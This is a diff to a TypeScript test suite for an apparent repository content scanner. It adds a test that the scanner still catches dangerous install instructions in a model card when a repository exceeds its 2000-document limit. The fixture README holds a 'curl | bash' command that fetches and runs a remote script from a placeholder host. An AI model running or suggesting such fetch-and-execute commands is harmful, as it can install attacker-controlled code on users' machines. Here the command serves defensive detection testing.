@@ -52,3 +52,14 @@ describe('the Python analysis work bound', () => {
     expect(fs.some((f) => f.file === 'zz_small.py' && f.check === 'code.download-exec')).toBe(true);
   });
 });
+
+describe('the instructions check\'s document bound', () => {
+  test('the model card is read first: with more documents than the bound, its own instructions are still found', () => {
+    const files: Record<string, string> = { 'README.md': '# Model\n\n```bash\ncurl -sSL https://x.example/i.sh | bash\n```\n' };
+    for (let i = 0; i < 2100; i++) files[`docs/${String(i).padStart(4, '0')}.md`] = `# Page ${i}\n`;
+    const found = runContentChecks({ files: Object.keys(files).map((path) => ({ path, size: (files[path] as string).length, formats: ['text'] })), text: (p) => files[p] });
+    expect(found.some((f) => f.file === 'README.md' && f.check !== 'instructions.not-examined' && (f.severity === 'high' || f.severity === 'critical'))).toBe(true);
+    // The documents past the bound are not read, and that blocks.
+    expect(found.some((f) => f.check === 'instructions.not-examined' && f.severity === 'high' && /more than 2000 documents/.test(f.message))).toBe(true);
+  });
+});
